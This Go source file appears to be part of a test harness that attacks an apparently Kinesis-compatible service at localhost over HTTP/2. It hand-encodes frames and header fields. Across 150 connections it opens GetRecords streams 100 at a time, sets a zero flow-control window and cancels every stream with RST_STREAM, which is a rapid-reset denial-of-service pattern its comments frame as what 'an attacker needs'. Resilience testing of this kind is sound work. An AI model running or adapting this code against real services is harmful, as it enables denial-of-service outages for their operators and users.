package main

import (
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"time"
)

// The parts of HTTP/2 that an attacker needs (RFC 9113, 6).
const (
	preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

	frameData, frameHeaders, frameReset, frameSettings = 0, 1, 3, 4

	endStream, acknowledge, endHeaders = 1, 1, 4
)

func frame(kind, flags byte, stream uint32, payload []byte) []byte {
	p := append(make([]byte, 9, 9+len(payload)), payload...)
	binary.BigEndian.PutUint32(p, uint32(len(payload))<<8|uint32(kind))
	p[4] = flags
	binary.BigEndian.PutUint32(p[5:], stream)
	return p
}

// fields encodes a head, without a table and as short literals (RFC 7541, 6.2.2).
func fields(pairs ...string) (p []byte) {
	for i, text := range pairs {
		if i%2 == 0 {
			p = append(p, 0)
		}
		p = append(append(p, byte(len(text))), text...)
	}
	return p
}

// resets begins 100 long reads at a time on each of 150 connections over HTTP/2, reads no answer,
// and resets them after up to two seconds.
func resets(ctx context.Context, t *target) {
	iterator, err := t.iterator(ctx, "attacked")
	if err != nil {
		panic(err)
	}
	body := fmt.Appendf(nil, `{"ShardIterator":%q}`, iterator)
	for range 150 {
		if conn, err := t.dial(ctx); err == nil {
			go resetReads(ctx, conn, body)
		}
	}
	wait(ctx, t)
}

func resetReads(ctx context.Context, conn net.Conn, body []byte) {
	go func() { _, _ = io.Copy(io.Discard, conn) }()
	noWindow := []byte{0, 4, 0, 0, 0, 0} // SETTINGS_INITIAL_WINDOW_SIZE
	_, err := conn.Write(append([]byte(preface), frame(frameSettings, 0, 0, noWindow)...))
	if err == nil {
		_, err = conn.Write(frame(frameSettings, acknowledge, 0, nil))
	}
	head := fields(":method", "POST", ":path", "/", ":scheme", "http", ":authority", "localhost",
		"content-type", "application/x-amz-json-1.1",
		"x-amz-target", "Kinesis_20131202.GetRecords", "content-length", fmt.Sprint(len(body)))
	for round, stream := 0, uint32(1); err == nil && ctx.Err() == nil; round++ {
		var begin, reset []byte
		for range 100 {
			begin = append(begin, frame(frameHeaders, endHeaders, stream, head)...)
			begin = append(begin, frame(frameData, endStream, stream, body)...)
			reset = append(reset, frame(frameReset, 0, stream, []byte{0, 0, 0, 8})...) // CANCEL
			stream += 2
		}
		if _, err = conn.Write(begin); err == nil {
			time.Sleep(time.Duration(round%3) * time.Second)
			_, err = conn.Write(reset)
		}
	}
}
